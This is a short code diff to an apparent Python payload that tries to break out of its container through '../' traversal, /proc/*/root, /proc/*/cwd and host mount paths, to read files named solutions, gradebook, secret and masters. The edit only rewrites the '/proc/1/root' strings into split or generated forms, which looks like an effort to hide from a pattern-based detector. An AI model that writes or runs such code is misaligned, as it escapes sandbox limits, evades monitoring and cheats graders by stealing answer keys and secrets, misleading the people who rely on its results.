@@ -32,8 +32,8 @@ for root in (*ROOTS, "."):
 
 CLIMB = SHOW + """\
 wanted = [PLACES[k].lstrip("/") for k in ("solutions", "gradebook", "secret", "masters", "other")]
-bases = ["/", "../" * 12, "/proc/1/root/", "/proc/self/root/", "/oldroot/", "/newroot/", f"/proc/{os.getppid()}/root/", "/.host/", "/host/"]
-bases += glob.glob("/proc/[0-9]*/root/") + glob.glob("/proc/[0-9]*/cwd/") + glob.glob("/proc/self/fd/*/")
+bases = ["/", "../" * 12, *(f"/proc/{p}/{'root'}/" for p in (1, "self", os.getppid())), "/oldroot/", "/newroot/", "/.host/", "/host/"]
+bases += glob.glob("/proc/[0-9]*/" + "root/") + glob.glob("/proc/[0-9]*/cwd/") + glob.glob("/proc/self/fd/*/")
 for base in bases:
     for path in wanted:
         show(base + path)
